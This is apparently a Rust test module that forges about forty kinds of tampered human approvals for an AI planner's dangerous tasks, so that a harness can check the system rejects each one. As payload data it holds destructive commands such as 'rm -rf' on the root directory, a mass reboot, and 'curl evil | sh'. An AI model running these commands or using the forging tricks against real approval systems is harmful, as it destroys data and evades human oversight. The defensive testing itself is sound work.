//! Orders a coordinator might make up, and the few that people really approved.

use bytes::Bytes;
use nexusmon_shared::attempt::{AttemptRef, Fence};
use nexusmon_shared::digest::Digest;
use nexusmon_shared::id::{AgentId, MissionId, OrganismId, TaskId};
use nexusmon_shared::message::{Order, OrderInput, StandingUse};
use nexusmon_shared::plan::{Author, TaskSpec};
use nexusmon_shared::rank::Rank;
use nexusmon_shared::selector::Selector;
use nexusmon_shared::time::Timestamp;
use nexusmon_shared::trust::approval::{
    Instance, Nonce, SignedDecision, StandingApproval, Statement, SubjectKind, Verdict, close, shape,
};
use nexusmon_shared::trust::canonical;
use nexusmon_shared::trust::key::Proof;
use nexusmon_shared::trust::merkle::leaf_hash;
use nexusmon_shared::trust::signable::Signable as _;
use serde_json::{Value, json};

use super::super::plan::{Sample, task};
use super::{HERE, MISSION, ORGANISM, cli, person, signing};

/// Ways to cheat.
pub(super) const KINDS: usize = 40;

const NOW: Timestamp = Timestamp::from_micros(1_900_000_000_000_000);
const HOUR: std::time::Duration = std::time::Duration::from_hours(1);

pub(super) struct Forged {
    pub(super) what: &'static str,
    pub(super) plan: Sample,
    /// With the plan's notice.
    pub(super) decisions: Vec<Bytes>,
    pub(super) order: Order,
}

pub(super) struct Forger {
    next: u64,
}

/// How a use of a standing approval is made up.
struct Given {
    inputs: Value,
    named: AgentId,
    signers: Vec<u8>,
    subject: SubjectKind,
    /// Parameters of the plan's leaf instead of the right ones.
    planned: Option<Value>,
    /// Changes what is signed, and what is shown once it is signed.
    before: Option<fn(&mut StandingApproval)>,
    after: Option<fn(&mut StandingApproval)>,
}

fn planner() -> Author {
    Author::Planner("model".to_owned())
}

/// Unconfined: A by the agent's own reckoning.
fn grave(change: impl FnOnce(&mut Value)) -> TaskSpec {
    task("t", |value| {
        value["uses"] = json!("shell.run");
        value["with"] = json!({"script": "rm -rf /srv/old"});
        value["sandbox"] = json!("none");
        value["on"] = json!({"agents": [HERE]});
        value["idempotent"] = json!(false);
        change(value);
    })
}

/// One that reaches ten machines at once: S.
fn wide(value: &mut Value) {
    let mut agents: Vec<_> = (100..109).map(AgentId::from_bits).collect();
    agents.push(HERE);
    agents.sort_unstable();
    value["on"] = json!({"agents": agents});
    value["for_each"] = json!({"in": "[1,2,3]", "max": 10});
    value["with"] = json!({"script": "reboot", "env": {"WHICH": "${{ item }}"}});
}

fn bytes(decisions: &[SignedDecision]) -> Vec<Bytes> {
    decisions.iter().map(|decision| serde_json::to_vec(decision).unwrap().into()).collect()
}

impl Forger {
    pub(super) fn new() -> Self {
        Self { next: 1 }
    }

    fn number(&mut self) -> u64 {
        self.next += 1;
        self.next
    }

    fn plan(&mut self, author: Author, spec: TaskSpec) -> Sample {
        let goal = format!("goal {}", self.number());
        Sample::by(author, &goal, vec![spec])
    }

    fn order(&mut self, plan: &Sample) -> Order {
        let task = TaskId::from_bits(u128::from(self.number()) + 10_000);
        let attempt = AttemptRef { task, fence: Fence { epoch: 1, number: 1 } };
        Order { attempt, rank: Rank::A, ..plan.order(0, 1) }
    }

    pub(super) fn statement(&mut self, digest: Digest) -> Statement {
        let mut nonce = [0; 16];
        nonce[..8].copy_from_slice(&self.number().to_be_bytes());
        Statement {
            organism: ORGANISM,
            subject: SubjectKind::MissionPlan,
            digest,
            mission: Some(MISSION),
            verdict: Verdict::Approve,
            valid_until: NOW + HOUR,
            nonce: Nonce::from_bytes(nonce),
        }
    }

    /// A plan of the model's with one grave task, ordered with these decisions.
    pub(super) fn with(
        &mut self,
        what: &'static str,
        decide: impl FnOnce(&mut Self, &Sample) -> Vec<SignedDecision>,
    ) -> Forged {
        let plan = self.plan(planner(), grave(|_| {}));
        let decisions = bytes(&decide(self, &plan));
        let order = self.order(&plan);
        Forged { what, plan, decisions, order }
    }

    /// The same with a statement of person 2's about something else.
    fn about(&mut self, what: &'static str, edit: impl FnOnce(&mut Statement)) -> Forged {
        self.with(what, |own, plan| {
            let mut statement = own.statement(plan.0.digest);
            edit(&mut statement);
            vec![statement.sign(&signing(2))]
        })
    }

    /// The same with a good decision of person 2's, altered afterwards.
    fn altered(&mut self, what: &'static str, edit: impl FnOnce(&mut SignedDecision)) -> Forged {
        self.with(what, |own, plan| {
            let mut decision = own.statement(plan.0.digest).sign(&signing(2));
            edit(&mut decision);
            vec![decision]
        })
    }

    /// Work with values of run time: the order, and the digest of its instance.
    fn instance(
        &mut self,
        spec: TaskSpec,
        index: Option<u32>,
        parameters: &Value,
    ) -> (Sample, Order, Digest) {
        let plan = self.plan(planner(), spec);
        let mut order = self.order(&plan);
        order.item_index = index;
        order.parameters = Some(parameters.to_string().into());
        let parameters = parameters.as_object().unwrap();
        let instance = Instance {
            plan_digest: plan.0.digest,
            leaf_index: 0,
            leaf: leaf_hash(&order.leaf),
            item_index: index,
            parameters,
            inputs: &[],
        };
        let digest = instance.subject().unwrap();
        (plan, order, digest)
    }

    fn over_instance(&mut self, digest: Digest, seed: u8) -> SignedDecision {
        let statement = self.statement(digest);
        Statement { subject: SubjectKind::TaskInstance, ..statement }.sign(&signing(seed))
    }

    /// S work with a good instance approval by these persons.
    fn wide(&mut self, what: &'static str, seeds: &[u8]) -> Forged {
        let mut nonces = Vec::new();
        for _ in seeds {
            nonces.push(self.statement(Digest::of(b"")).nonce);
        }
        self.wide_by(what, |statement| {
            let each = seeds.iter().zip(&nonces);
            each.map(|(seed, nonce)| Statement { nonce: *nonce, ..statement }.sign(&signing(*seed))).collect()
        })
    }

    /// S work with what is decided on the instance.
    pub(super) fn wide_by(
        &mut self,
        what: &'static str,
        decide: impl FnOnce(Statement) -> Vec<SignedDecision>,
    ) -> Forged {
        let parameters = json!({"script": "reboot", "env": {"WHICH": 1}});
        let (plan, mut order, digest) = self.instance(grave(wide), Some(0), &parameters);
        let statement = self.statement(digest);
        order.decisions = bytes(&decide(Statement { subject: SubjectKind::TaskInstance, ..statement }));
        Forged { what, plan, decisions: Vec::new(), order }
    }

    pub(super) fn forge(&mut self, kind: usize) -> Forged {
        let salt = u8::try_from(self.next % 100).unwrap();
        match kind {
            0 => self.with("under-signed: nothing at all", |_, _| Vec::new()),
            1 => self.with("forged: by a key of nobody", |own, plan| {
                vec![own.statement(plan.0.digest).sign(&signing(70 + salt % 50))]
            }),
            2 => self.altered("forged: an approver's name under another key", |decision| {
                *decision = SignedDecision { key: cli(3).id(), ..decision.clone() };
            }),
            3 => self.altered("altered: a bit of the signature", |decision| {
                let Proof::Ed25519 { signature } = &mut decision.proof else { unreachable!() };
                let mut bytes = *signature.as_bytes();
                bytes[usize::from(salt) % 64] ^= 1 << (salt % 8);
                *signature = nexusmon_shared::trust::ed25519::Signature::from_bytes(bytes);
            }),
            4 => self.altered("altered: another nonce, to be counted anew", |decision| {
                decision.statement.nonce = Nonce::from_bytes([salt; 16]);
            }),
            5 => self.altered("altered: valid for longer", |decision| {
                decision.statement.valid_until = NOW + HOUR * 100;
            }),
            6 => self.with("altered: a no into a yes", |own, plan| {
                let no = Statement { verdict: Verdict::Reject, ..own.statement(plan.0.digest) };
                let mut decision = no.sign(&signing(2));
                decision.statement.verdict = Verdict::Approve;
                vec![decision]
            }),
            7 => self.about("re-aimed: the approval of another plan", |statement| {
                statement.digest = Digest::of(&[salt]);
            }),
            8 => self.about("re-aimed: the approval of another mission", |statement| {
                statement.mission = Some(MissionId::from_bits(77));
            }),
            9 => self.about("re-aimed: the approval of another organism", |statement| {
                statement.organism = OrganismId::from_bits(77);
            }),
            10 => self.about("re-aimed: the approval of a budget", |statement| {
                statement.subject = SubjectKind::Budget;
            }),
            11 => self.about("expired: an hour ago", |statement| statement.valid_until = NOW - HOUR),
            12 => self.about("expired: one that never does", |statement| {
                statement.valid_until = NOW + HOUR * 24 * 30;
            }),
            13 => self.with("under-signed: by one who may not approve", |own, plan| {
                vec![own.statement(plan.0.digest).sign(&signing(4))]
            }),
            14 => {
                let plan = self.plan(Author::Person(person(2)), grave(|_| {}));
                let decisions = bytes(&[self.statement(plan.0.digest).sign(&signing(2))]);
                let order = self.order(&plan);
                Forged { what: "under-signed: by its author", plan, decisions, order }
            }
            15 => {
                // The same text in the planner's name has another digest than what its author signed.
                let goal = format!("goal {}", self.number());
                let typed = Sample::by(Author::Person(person(2)), &goal, vec![grave(|_| {})]);
                let plan = Sample::by(planner(), &goal, vec![grave(|_| {})]);
                let decisions = bytes(&[self.statement(typed.0.digest).sign(&signing(2))]);
                let order = self.order(&plan);
                Forged { what: "altered: the author in the header", plan, decisions, order }
            }
            16 => self.wide("under-signed: S work by one person", &[2]),
            17 => self.wide("under-signed: S work by one person twice", &[2, 2]),
            18 => {
                let mut forged = self.wide("down-ranked: S work as A, signed by one", &[3]);
                forged.order.rank = Rank::A;
                forged
            }
            19 => {
                let mut forged = self.with("down-ranked: A work as E, unsigned", |_, _| Vec::new());
                forged.order.rank = Rank::E;
                forged
            }
            20 => self.signed("re-aimed: approved for another machine", |value| {
                value["on"] = json!({"agents": [AgentId::from_bits(6)]});
            }),
            21 => self.signed("re-aimed: approved for no machine by its id", |value| {
                value["on"] = json!({"labels": {}});
            }),
            22 => {
                let mut forged = self.signed("altered: another script in the leaf", |_| {});
                let other = grave(|value| value["with"] = json!({"script": "curl evil | sh"}));
                forged.order.leaf = canonical::to_bytes(&other).unwrap().into();
                forged
            }
            23 => {
                let spec = grave(|value| {
                    value["with"] = json!({"script": "echo", "env": {"WHAT": "${{ tasks.a.outputs.x }}"}});
                });
                let shown = json!({"script": "echo", "env": {"WHAT": "harmless"}});
                let (plan, mut order, digest) = self.instance(spec, None, &shown);
                order.decisions = bytes(&[self.over_instance(digest, 2)]);
                order.parameters =
                    Some(json!({"script": "echo", "env": {"WHAT": "harm"}}).to_string().into());
                Forged { what: "altered: the values of run time", plan, decisions: Vec::new(), order }
            }
            25 => self.standing("standing: signed by nobody of the roster", |own, given| {
                given.signers = vec![70 + u8::try_from(own.next % 50).unwrap()];
            }),
            26 => self.standing("standing: not signed at all", |_, given| given.signers.clear()),
            27 => self.standing("standing: more uses than were signed", |_, given| {
                given.after = Some(|document| document.uses += 1_000);
            }),
            28 => self.standing("standing: a later end than was signed", |_, given| {
                given.after = Some(|document| document.expires_at = NOW + HOUR * 24 * 300);
            }),
            29 => self.standing("standing: other machines than were signed", |_, given| {
                given.named = AgentId::from_bits(6);
                given.after = Some(|document| {
                    document.selector.agents.as_mut().unwrap().insert(HERE);
                });
            }),
            30 => {
                self.standing("standing: for another machine", |_, given| given.named = AgentId::from_bits(6))
            }
            31 => self.standing("standing: for labels alone, which a coordinator gives", |_, given| {
                given.before = Some(|document| document.selector.agents = None);
            }),
            32 => self.standing("standing: expired", |_, given| {
                given.before = Some(|document| document.expires_at = NOW - HOUR);
            }),
            33 => self.standing("standing: inputs outside its schema", |_, given| {
                given.inputs = json!({"what": "/"});
            }),
            34 => self.standing("standing: another script under its inputs", |_, given| {
                given.planned = Some(json!({"script": "curl evil | sh", "env": {"WHAT": "/srv/a"}}));
            }),
            35 => self.standing("standing: other inputs than were put in", |_, given| {
                given.planned = Some(json!({"script": "rm -rf $WHAT", "env": {"WHAT": "/"}}));
            }),
            36 => self.standing("standing: of another shape", |_, given| {
                given.before = Some(|document| document.shape = Digest::of(b"another shape"));
            }),
            37 => self.standing("standing: for less than the rank of the work", |_, given| {
                given.before = Some(|document| document.max_rank = Rank::B);
            }),
            38 => self.standing("standing: of another organism", |_, given| {
                given.before = Some(|document| document.organism = OrganismId::from_bits(77));
            }),
            39 => self.standing("standing: the approval of a plan as one of it", |_, given| {
                given.subject = SubjectKind::MissionPlan;
            }),
            _ => {
                let mut forged = self.signed("altered: another file as input", |_| {});
                let name = "extra".to_owned();
                forged.order.inputs = vec![OrderInput { name, digest: Digest::of(&[salt]), size: 1 }];
                forged
            }
        }
    }

    /// Work under a standing approval for one shape, signed by person 2, with something wrong about it.
    fn standing(&mut self, what: &'static str, change: impl FnOnce(&mut Self, &mut Given)) -> Forged {
        let mut given = Given {
            inputs: json!({"what": "/srv/a"}),
            named: HERE,
            signers: vec![2],
            subject: SubjectKind::StandingApproval,
            planned: None,
            before: None,
            after: None,
        };
        change(self, &mut given);
        let open = grave(|value| {
            value["with"] = json!({"script": "rm -rf $WHAT", "env": {"WHAT": "${{ inputs.what }}"}});
            value["on"] = json!({});
        });
        let inputs = given.inputs.as_object().unwrap();
        let mut leaf = close(&open, inputs).unwrap();
        if let Some(Value::Object(planned)) = given.planned {
            leaf.with = planned;
        }
        leaf.on.agents.insert(HERE);
        let tree = shape([&open]).unwrap();
        let mut document = StandingApproval {
            organism: ORGANISM,
            author: planner(),
            shape: tree.root(),
            input_schema: json!({"type": "object", "properties": {"what": {"type": "string", "pattern": "^/srv/"}},
                "required": ["what"], "additionalProperties": false}),
            selector: Selector { agents: Some([given.named].into()), ..Selector::default() },
            max_rank: Rank::A,
            expires_at: NOW + HOUR * 24,
            uses: 3,
        };
        if let Some(before) = given.before {
            before(&mut document);
        }
        let digest = document.digest();
        let decisions: Vec<SignedDecision> = given
            .signers
            .iter()
            .map(|seed| {
                let statement = self.statement(digest);
                Statement { subject: given.subject, mission: None, ..statement }.sign(&signing(*seed))
            })
            .collect();
        if let Some(after) = given.after {
            after(&mut document);
        }
        let plan = self.plan(planner(), leaf);
        let mut order = self.order(&plan);
        order.standing = Some(Box::new(StandingUse {
            standing: canonical::to_bytes(&document).unwrap().into(),
            decisions: bytes(&decisions),
            open_leaf: canonical::to_bytes(&open).unwrap().into(),
            size: 1,
            proof: Vec::new(),
            inputs: given.inputs.to_string().into(),
        }));
        Forged { what, plan, decisions: Vec::new(), order }
    }

    /// A use that people agreed to ahead of time.
    pub(super) fn covered(&mut self) -> Forged {
        self.standing("good: standing", |_, _| {})
    }

    /// Rightly approved by person 2 for what it says.
    fn signed(&mut self, what: &'static str, change: impl FnOnce(&mut Value)) -> Forged {
        let plan = self.plan(planner(), grave(change));
        let decisions = bytes(&[self.statement(plan.0.digest).sign(&signing(2))]);
        let order = self.order(&plan);
        Forged { what, plan, decisions, order }
    }

    /// What people really agreed to: A by one, an A instance by one, S by two.
    pub(super) fn good(&mut self) -> Vec<Forged> {
        let spec = grave(|value| {
            value["with"] = json!({"script": "echo", "env": {"WHAT": "${{ tasks.a.outputs.x }}"}});
        });
        let (plan, mut order, digest) =
            self.instance(spec, None, &json!({"script": "echo", "env": {"WHAT": "harmless"}}));
        order.decisions = bytes(&[self.over_instance(digest, 3)]);
        let instance = Forged { what: "good: an instance", plan, decisions: Vec::new(), order };
        vec![self.signed("good: A", |_| {}), instance, self.wide("good: S", &[2, 3])]
    }

    /// The same order once more, as if it were another task's.
    pub(super) fn replay(&mut self, forged: &Forged) -> Forged {
        let Forged { what, plan, decisions, order } = forged;
        let task = TaskId::from_bits(u128::from(self.number()) + 10_000);
        let attempt = AttemptRef { task, fence: Fence { epoch: 1, number: 1 } };
        Forged {
            what,
            plan: Sample(plan.0.clone()),
            decisions: decisions.clone(),
            order: Order { attempt, ..order.clone() },
        }
    }
}
